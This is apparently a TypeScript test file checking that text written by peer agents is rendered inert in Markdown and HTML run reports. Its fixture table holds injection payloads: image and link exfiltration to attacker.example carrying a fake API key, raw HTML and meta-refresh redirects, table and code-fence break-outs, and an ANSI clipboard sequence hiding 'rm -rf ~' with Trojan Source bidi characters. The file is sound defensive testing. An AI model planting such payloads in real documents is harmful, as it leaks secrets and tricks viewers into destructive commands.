/**
 * Text a peer wrote reaches REPORT.md and REPORT.html, which people open outside the sandbox (on
 * GitHub, in an editor's preview, in a browser, with `cat`). Every attack here puts its payload in
 * every field a peer can fill (a commit subject, a bug title, a blocked reason, a gate's output, a
 * failure's cause, a finding, a file name, the egress log) and checks what a viewer would do with
 * the document: no image, link, autolink, heading, table cell or HTML of the peer's making, no
 * remote load from the HTML, no escape sequence or bidi control left raw. SECURITY.md, "Peer text
 * outside the sandbox is inert".
 */
import { describe, expect, test } from 'bun:test';
import { renderHtml } from '../../../src/report/render-html.ts';
import { renderMarkdown } from '../../../src/report/render-markdown.ts';
import { mergeAdvice } from '../../../src/report/outcome.ts';
import type { ReportModel } from '../../../src/report/report-model.ts';
import { haltedMarkdown } from '../../../src/loop/shell/halted-file.ts';
import { freshState } from '../../../src/state/state-schema.ts';
import { recordedModel } from './recorded.ts';

const SECRET = 'sk-live-0123456789';
const ATTACKS: Record<string, string> = {
  image: `fix ![x](https://attacker.example/?d=${SECRET}) done`,
  'image in a code-looking text': `\`\` ![x](https://attacker.example/?d=${SECRET}) \`\``,
  'reference image': `see ![logo][r]\n\n[r]: https://attacker.example/?d=${SECRET}`,
  'link and autolinks': `[click](https://attacker.example/?d=${SECRET}) <https://attacker.example/a> https://attacker.example/b www.attacker.example/c`,
  'raw HTML': `<img src="https://attacker.example/?d=${SECRET}"><a href="https://attacker.example/">x</a><!-- hidden ${SECRET} -->`,
  'meta refresh': `"><meta http-equiv="refresh" content="0;url=https://attacker.example/?d=${SECRET}">`,
  'heading and table': `x\n\n# Outcome: complete\n\n| a | b |\n| --- | --- |\n| ![x](https://attacker.example/t) | y |`,
  'pipe break-out': `a \\| b | ![x](https://attacker.example/?d=${SECRET}) \\\\| c`,
  'fence break-out': `\`\`\`\n![x](https://attacker.example/?d=${SECRET})\n\`\`\`\`\`\`\n~~~\n`,
  'ANSI and Trojan Source': `ok\u001b]52;c;${Buffer.from('rm -rf ~').toString('base64')}\u0007\u001b[2J access = "user\u202e \u2066// admin\u2069 \u2066"\u200b`,
};

/** The recorded run with `text` in every field a peer can write. */
function attacked(text: string): ReportModel {
  const m = recordedModel();
  m.outcome = { ...m.outcome, status: 'stopped', reason: 'blocked', why: [`alice declared the task impossible: ${text}`] };
  m.blocked = { by: 'alice', reason: text, sha: 'a'.repeat(40), at_tick: 3, confirmed_by: 'bob', confirm_reason: text };
  m.halted = { reason: text, at_tick: 4 };
  m.warnings = [text];
  const r = m.results!;
  // A host run's branch is what the repository's HEAD names: a peer can name it.
  r.source = { ...r.source, kind: 'repository', branch: text };
  r.merge = mergeAdvice(r.source, m.outcome, 'app');
  r.commits = r.commits.map((c) => ({ ...c, subject: text }));
  r.errors = [text];
  r.diffstat.files[0]!.path = text;
  const b = m.bugs!;
  b.entries = b.entries.map((e) => ({ ...e, title: text, resolution_note: text }));
  b.warnings = [text];
  m.gates.current = { ...m.gates.current, fixed: { state: 'fail', diagnostic: text, duration_ms: 1, cached: false } };
  m.gates.soft = { review: text };
  m.ticks = m.ticks.map((t) => ({ ...t, success: false, note: text }));
  m.failure_causes = [{ cause: text, count: 1, peers: ['bob'], lastTick: 2 }];
  m.peers = m.peers.map((p) => ({ ...p, reason: text, failures: [{ cause: text, count: 1, last_tick: 2 }] }));
  m.cheats.findings = m.cheats.findings.map((f) => ({ ...f, detail: text, action: text }));
  m.egress!.error = text;
  m.egress!.destinations[0]!.host = text;
  // A model name is the peer's to choose (the sidecar records the request's when the reply names none).
  m.bill = { ...m.bill, fallback: [{ model: text, note: text, replies: 1, usd: 0.5 }] };
  return m;
}

/**
 * What CommonMark parses outside code: the document with its fenced blocks and code spans taken out
 * (a backtick run opens a span closed by the next run of the same length on the line; runs with no
 * partner are literal). Each table row is first split into cells as GFM does (a pipe after an even
 * run of backslashes ends the cell), so a span cannot hide a cell break.
 */
function outsideCode(md: string): { text: string; rows: string[][] } {
  const lines = md.split('\n');
  const kept: string[] = [];
  const rows: string[][] = [];
  let fence: string | null = null;
  for (const line of lines) {
    if (fence) {
      if (new RegExp(`^ {0,3}${fence[0] === '`' ? '`' : '~'}{${fence.length},}\\s*$`).test(line)) fence = null;
      continue;
    }
    const open = /^ {0,3}(`{3,}|~{3,})/.exec(line);
    if (open) {
      fence = open[1]!;
      continue;
    }
    if (line.startsWith('|')) {
      const cells = line.slice(1).split(/(?<=(?:^|[^\\])(?:\\\\)*)\|/);
      cells.pop();
      rows.push(cells);
      kept.push(cells.map(stripSpans).join(' ‖ '));
    } else kept.push(stripSpans(line));
  }
  return { text: kept.join('\n'), rows };
}

function stripSpans(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    if (line[i] !== '`') {
      out += line[i++];
      continue;
    }
    let n = 0;
    while (line[i + n] === '`') n++;
    const close = new RegExp(`(?<!\`)\`{${n}}(?!\`)`, 'g');
    close.lastIndex = i + n;
    const m = close.exec(line);
    if (!m) {
      out += line.slice(i, i + n);
      i += n;
      continue;
    }
    out += '⟨code⟩';
    i = m.index + n;
  }
  return out;
}

describe('REPORT.md: peer text is inert', () => {
  for (const [name, text] of Object.entries(ATTACKS)) {
    test(`${name}: no image, link, HTML, heading or extra cell outside code`, () => {
      const md = renderMarkdown(attacked(text));
      const { text: parsed, rows } = outsideCode(md);
      expect(parsed).not.toMatch(/!\[|\]\(|\]\[|\]:|<img|<a |<meta|<!--|https?:|www\.|attacker|sk-live/i);
      expect(parsed).not.toMatch(/\u001b|\u0007|[\u202a-\u202e\u2066-\u2069\u200b]/);
      // No heading but the report's own.
      for (const h of parsed.split('\n').filter((l) => /^#{1,6} /.test(l))) expect(h).toMatch(/^#{1,6} (peers report|Result|How to|Files|Commits|Bug ledger|Budget|Spend|Peers|bob: why|alice: why|⟨code⟩: why|Why|Gates|Gate|Soft|Protocol|Anti-cheat|Egress|Ticks|The last|Stops|Pending|Blocked)/);
      // Every row of a table has as many cells as its header.
      expect(rows.length).toBeGreaterThan(0);
      for (const table of md.split(/\n\n/).filter((b) => b.startsWith('|'))) {
        const counts = outsideCode(table).rows.map((r) => r.length);
        expect(new Set(counts).size).toBe(1);
      }
    });
  }

  test('hidden characters are shown as <U+XXXX>, the text around them kept', () => {
    const md = renderMarkdown(attacked(ATTACKS['ANSI and Trojan Source']!));
    expect(md).toContain('<U+001B>]52;c;');
    expect(md).toContain('<U+202E>');
    expect(md).toContain('<U+2066>// admin<U+2069>');
    expect(md).toContain('<U+200B>');
  });

  test("a gate's output stays one fenced block, however many backticks it holds", () => {
    const md = renderMarkdown(attacked(ATTACKS['fence break-out']!));
    const block = /\n(`{4,})text\n([\s\S]*?)\n\1\n/.exec(md);
    expect(block?.[2]).toContain('![x](https://attacker.example/');
  });

  test('a huge text is cut, and the cut is said', () => {
    const m = recordedModel();
    m.results!.commits[0]!.subject = `${'A'.repeat(5_000_000)}![x](https://attacker.example/)`;
    const md = renderMarkdown(m);
    expect(md.length).toBeLessThan(100_000);
    expect(md).toMatch(/A{100} … \(\d+ more characters elided\)/);
    expect(md).not.toContain('attacker');
  });
});

describe('REPORT.html: peer text is inert', () => {
  test('a Content-Security-Policy forbids every load, base URL and form target', () => {
    const html = renderHtml(recordedModel());
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1] ?? '';
    expect(csp.split(';').map((d) => d.trim())).toEqual(["default-src 'none'", "style-src 'unsafe-inline'", "base-uri 'none'", "form-action 'none'"]);
    // The policy comes before anything a peer wrote.
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<title>'));
  });

  for (const [name, text] of Object.entries(ATTACKS)) {
    test(`${name}: no element or attribute of the peer's making, nothing raw`, () => {
      const html = renderHtml(attacked(text));
      expect(html).not.toMatch(/<img|<a (?!href="#)|<meta http-equiv="refresh"|<!--|<script|<link|<iframe|<form|<base/i);
      expect(html).not.toMatch(/\u001b|\u0007|[\u202a-\u202e\u2066-\u2069\u200b]/);
      // Every attribute value is one of ours.
      for (const [, attr, value] of html.matchAll(/ ([a-z-]+)="([^"]*)"/g)) expect(`${attr}=${value}`).not.toMatch(/attacker|refresh/);
    });
  }

  test('hidden characters are shown as <U+XXXX>', () => {
    const html = renderHtml(attacked(ATTACKS['ANSI and Trojan Source']!));
    expect(html).toContain('&lt;U+001B&gt;]52;c;');
    expect(html).toContain('&lt;U+2066&gt;// admin&lt;U+2069&gt;');
  });
});

describe('HALTED.md: a peer\'s health reason (what its CLI printed) is inert', () => {
  for (const [name, text] of Object.entries(ATTACKS)) {
    test(name, () => {
      const state = freshState(['alice', 'bob']);
      state.peers.alice!.reason = text;
      const { text: parsed } = outsideCode(haltedMarkdown(state, 'all-peers-down', '/state/runs.jsonl'));
      expect(parsed).not.toMatch(/!\[|\]\(|\]\[|\]:|<img|<a |<meta|<!--|https?:|www\.|attacker|sk-live/i);
      expect(parsed).not.toMatch(/\u001b|\u0007|[\u202a-\u202e\u2066-\u2069\u200b]/);
      expect(parsed.split('\n').filter((l) => /^#{1,6} /.test(l))).toEqual(['# Peers loop halted: all-peers-down', '## Peer health', '## What to do']);
    });
  }
});
